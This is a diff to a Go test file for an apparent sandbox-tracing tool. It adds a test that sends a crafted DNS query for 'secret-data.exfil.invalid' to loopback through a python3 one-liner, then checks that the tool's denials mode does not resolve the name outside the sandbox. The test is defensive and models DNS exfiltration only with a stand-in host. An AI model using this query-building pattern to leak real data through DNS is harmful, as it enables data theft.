@@ -3,13 +3,19 @@
 package learn
 
 import (
+	"context"
+	"encoding/hex"
+	"errors"
 	"net"
+	"net/netip"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"slices"
 	"strconv"
 	"testing"
+
+	"golang.org/x/net/dns/dnsmessage"
 )
 
 // The test binary is its own stub, as jp-policy is.
@@ -206,5 +212,51 @@ func TestTraceForeignABI(t *testing.T) {
 	}
 	if res := observe(t, dir, "/bin/true"); res.ForeignABI {
 		t.Error("a native run was reported as using another ABI")
+	}
+}
+
+// TestDenialsResolveNothing: under exec --denials the traced command is
+// a sandboxed tool, and a name it sends to a resolver must not be looked
+// up from outside the sandbox (the lookup carries the name to the
+// network). Positive control: learn, observing the same command, does
+// look it up, to name the connection.
+func TestDenialsResolveNothing(t *testing.T) {
+	py, err := exec.LookPath("python3")
+	if err != nil {
+		t.Skip("no python3 to send a DNS query")
+	}
+	if err := Supported(); err != nil {
+		t.Skip(err)
+	}
+	b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: 1, RecursionDesired: true})
+	b.StartQuestions()
+	b.Question(dnsmessage.Question{Name: dnsmessage.MustNewName("secret-data.exfil.invalid."), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET})
+	q, err := b.Finish()
+	if err != nil {
+		t.Fatal(err)
+	}
+	// Sent to port 53 of loopback, where nothing need listen: the send is
+	// what the tracer reads.
+	script := "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n" +
+		"s.sendto(bytes.fromhex('" + hex.EncodeToString(q) + "'), ('127.0.0.1', 53))\n"
+	for _, denials := range []bool{true, false} {
+		var asked []string
+		lookup := func(_ context.Context, _, host string) ([]netip.Addr, error) {
+			asked = append(asked, host)
+			return nil, errors.New("no")
+		}
+		res, err := run([]string{py, "-c", script}, t.TempDir(), os.Environ(), denials, lookup)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if res.ExitCode != 0 {
+			t.Fatalf("python exited %d", res.ExitCode)
+		}
+		if !denials && !slices.Contains(asked, "secret-data.exfil.invalid") {
+			t.Errorf("learn did not look up the queried name (asked %q)", asked)
+		}
+		if denials && len(asked) > 0 {
+			t.Errorf("exec --denials looked up %q", asked)
+		}
 	}
 }
